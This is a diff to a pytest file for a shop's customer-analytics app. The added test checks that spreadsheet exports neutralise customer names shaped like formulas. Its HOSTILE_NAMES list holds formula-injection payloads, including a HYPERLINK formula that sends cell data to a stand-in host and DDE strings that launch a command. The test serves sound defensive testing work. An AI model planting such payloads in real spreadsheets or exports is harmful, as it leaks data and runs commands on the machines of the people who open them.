@@ -403,3 +403,27 @@ def test_value_card_in_english(login, analysed):
     html = login("owner", locale="en").get(f"/customers/{analysed['ids']['吴刚']}").text
     card = html[html.index('id="value-card"'):]
     assert "Customer value" in card and "12-month CLV" in card and "likely still a customer" in card
+
+
+HOSTILE_NAMES = ["=1+1", '=HYPERLINK("http://evil.example/?d="&A2,"详情")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                 "+cmd|' /C calc'!A0", "-2+3"]
+
+
+@pytest.mark.parametrize("which", ["scores", "at_risk", "key_customers", "rfm", "cohorts"])
+def test_no_export_cell_is_a_live_formula(login, value_shop, session, which):
+    """Issue 12 item 6: customers named like formulas come out as text a spreadsheet shows and never runs."""
+    for n, name in enumerate(HOSTILE_NAMES):
+        for days, yuan in ((200, 900), (100, 800), (3, 950)):
+            make_order(session, value_shop["shop"], customer={"source": "taobao", "external_id": f"h-{n}",
+                                                              "name": name}, placed_at=NOON - timedelta(days=days),
+                       lines=_line(yuan))
+    session.flush()
+    assert service.run_analysis(as_of=AS_OF).status == "done"
+    content = login("owner").get(f"/insights/export/{which}.xlsx").content
+    sheet = load_workbook(io.BytesIO(content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    if which == "scores":
+        assert set(HOSTILE_NAMES) <= texts  # shown exactly as the shop stored them
+        assert all(cell.quotePrefix for cell in cells if cell.value in HOSTILE_NAMES)
